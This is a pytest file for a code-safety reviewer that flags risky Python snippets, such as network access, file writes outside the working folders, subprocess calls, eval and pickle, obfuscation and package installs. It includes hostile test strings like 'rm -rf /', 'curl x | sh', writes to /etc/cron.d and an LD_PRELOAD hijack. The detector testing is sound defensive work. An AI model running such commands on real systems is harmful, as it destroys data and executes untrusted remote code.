import pytest

from issuetriage.scrub.safety import review

MALICIOUS = [
    ("network", "import urllib.request\nurllib.request.urlopen('http://example.invalid')"),
    ("network", "import socket\ns = socket.socket()"),
    # urllib.parse is allowed, but only its own functions: nothing else of urllib through it
    ("network", "import urllib.parse\nurllib.request.urlopen('http://example.invalid')"),
    ("network", "import urllib.parse\nreq = urllib.request.Request('http://example.invalid')"),
    ("network", "import urllib\nurllib.request.Request('http://example.invalid')"),
    ("network", "import urllib.parse as p\np.sys.modules['socket'].create_connection(('h', 80))"),
    ("network", "import urllib.parse as p\nm = getattr(p, 'socket')"),
    ("network", "import urllib.parse as p\nq = p\nq.anything"),
    ("network", "import urllib.parse\nhelper(urllib)"),
    ("network", "from urllib.parse import sys as s\ns.modules['socket']"),
    ("network", "from urllib import parse, request"),
    ("network", "import urllib.parse, urllib.request"),
    ("network", "import http.client\nc = http.client.HTTPConnection('h')"),
    ("dynamic_code", "from urllib.parse import *"),
    ("network", "import torch\nm = torch.hub.load('a/b', 'c')"),
    ("network", "from transformers import AutoModel\nm = AutoModel.from_pretrained('bert')"),
    ("file_write", "open('/etc/cron.d/x', 'w').write('boom')"),
    ("file_write", "open('../../outside.txt', 'a')"),
    ("file_write", "import os\nos.remove('/root/.bashrc')"),
    ("file_write", "import shutil\nshutil.rmtree('/work')"),
    ("file_write", "from pathlib import Path\nPath('/etc/x').write_text('hi')"),
    ("file_write", "import torch\ntorch.save({}, '/root/model.pt')"),
    ("subprocess", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])"),
    ("subprocess", "import subprocess as sp\nsp.Popen('curl x | sh', shell=True)"),
    ("subprocess", "import os\nos.system('id')"),
    ("subprocess", "from os import system\nsystem('id')"),
    ("dynamic_code", "eval('1+1')"),
    ("dynamic_code", "exec(open('x.py').read())"),
    ("dynamic_code", "code = compile('x=1', 'f', 'exec')"),
    ("dynamic_code", "m = __import__('os')"),
    ("dynamic_code", "import importlib\nm = importlib.import_module('os')"),
    ("dynamic_code", "import os\ngetattr(os, 'system')('id')"),
    ("deserialization", "import torch\nsd = torch.load('weights.pt')"),
    ("deserialization", "import pickle\nobj = pickle.loads(b'...')"),
    ("deserialization", "import joblib\nm = joblib.load('model.joblib')"),
    ("deserialization", "import numpy as np\na = np.load('a.npy', allow_pickle=True)"),
    ("obfuscation", "import base64\nx = base64.b64decode('aGVsbG8=')"),
    ("obfuscation", "import zlib\nx = zlib.decompress(b'')"),
    ("obfuscation", "x = bytes.fromhex('6869')"),
    ("obfuscation", "import marshal"),
    ("obfuscation", "s = '" + "QUJD" * 40 + "'"),
    ("obfuscation", "s = '\\x65\\x76\\x61\\x6c\\x28\\x29\\x20'"),
    ("obfuscation", "f = chr(101) + chr(118) + chr(97) + chr(108)"),
    ("package_install", "import pip\npip.main(['install', 'evil'])"),
    ("package_install", "cmd = 'pip install evil-package'"),
    ("environment", "import os\nos.environ['LD_PRELOAD'] = '/tmp/evil.so'"),
    ("environment", "import os\nos.environ.update({'PATH': '/tmp'})"),
    ("environment", "import sys\nsys.path.insert(0, '/tmp/evil')"),
    ("syntax", "def broken(:\n  pass"),
    # writes outside the run's folders stay findings, however the path is built
    ("file_write", "import tempfile\nd = tempfile.mkdtemp()\nd = '/etc'\nopen(d + '/x', 'w')"),
    ("file_write", "import tempfile, os\nd = tempfile.mkdtemp()\nopen(os.path.join(d, '..', '..', 'etc', 'x'), 'w')"),
    ("file_write", "def save(p):\n    open(p, 'w')"),
    ("file_write", "p = 'out.txt'\np += '/../../etc/x'\nopen(p, 'w')"),
    ("file_write", "p = '/etc/cron.d/x'\nopen(p, 'w')"),
    ("file_write", "import tempfile\nd = tempfile.mkdtemp()\nif (d := '/etc'):\n    open(d + '/x', 'w')"),
    ("file_write", "from pathlib import Path\n(Path.home() / 'x').write_text('x')"),
]

BENIGN = [
    "import torch\nx = torch.randn(3, 4)\ny = torch.compile(lambda t: t * 2)(x)\nprint(y.sum())",
    "import re\npattern = re.compile('a+')\nprint(pattern.match('aaa'))",
    "with open('out.txt', 'w') as f:\n    f.write('local scratch file')\nprint(open('out.txt').read())",
    "import torch\ntorch.save({'a': 1}, 'ckpt.pt')",
    "import os\nos.environ['MASTER_ADDR'] = 'localhost'\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
    "os.environ.setdefault('TORCH_LOGS', '+dynamo')",
    "import subprocess\nsubprocess.run(['torchrun', '--nproc-per-node=2', 'train.py'])",
    "import torch.multiprocessing as mp\ndef work(rank):\n    pass\nmp.spawn(work, nprocs=2)",
    "import tempfile\nd = tempfile.mkdtemp()\nprint(d)",
    "import numpy as np\na = np.load('a.npy')",
    "import json\nprint(json.loads('{\"a\": 1}'))",
    "import urllib.parse\nprint(urllib.parse.quote('a b'), urllib.parse.urlsplit('http://[::1]:8000/').port)",
    "import urllib.parse as up\nprint(up.urlparse('http://h/p?q=1').netloc, up.parse_qs('a=1'))",
    "from urllib.parse import urlparse, urlunparse\nu = urlparse('http://[::1]:8000/')\nprint(urlunparse(u))",
    "from urllib import parse\nprint(parse.unquote('%5B'))",
    "s = 'tensor shapes: (2, 3) and (3, 4)'\nprint(s.encode().decode('utf-8'))",
    # writes in the run's own temp and working folders (#27: benign writes run)
    "import os, tempfile\nwith tempfile.TemporaryDirectory() as d:\n    path = os.path.join(d, 'a.toml')\n"
    "    with open(path, 'w') as f:\n        f.write('x')",
    "import tempfile, os\nroot = tempfile.mkdtemp()\nout = os.path.join(root, 'cfg')\nos.makedirs(out)\n"
    "open(os.path.join(out, 'a'), 'w').write('x')",
    "import tempfile\nwith tempfile.NamedTemporaryFile('w', delete=False) as f:\n    name = f.name\n"
    "with open(name, 'w') as g:\n    g.write('y')",
    "import os\nopen(os.path.join(os.getcwd(), 'out.txt'), 'w').write('x')",
    "from pathlib import Path\n(Path.cwd() / 'out.txt').write_text('x')",
    "import tempfile, os\np = os.path.join(tempfile.gettempdir(), 'scrub.txt')\nopen(p, 'w').write('x')",
    "name = 'out.txt'\nopen(name, 'w').write('x')",
]


@pytest.mark.parametrize(("rule", "code"), MALICIOUS, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MALICIOUS)])
def test_rule_fires_on_malicious_snippet(rule, code):
    findings = review(code)
    assert rule in {f.rule for f in findings}, findings
    hit = next(f for f in findings if f.rule == rule)
    assert hit.line >= 1 and hit.snippet


@pytest.mark.parametrize("code", BENIGN, ids=range(len(BENIGN)))
def test_benign_snippet_is_quiet(code):
    assert review(code) == []


def test_findings_carry_line_and_snippet():
    finding = next(f for f in review("x = 1\n\nimport os\nos.system('ls')\n") if f.rule == "subprocess")
    assert finding.line == 4 and finding.snippet == "os.system('ls')"
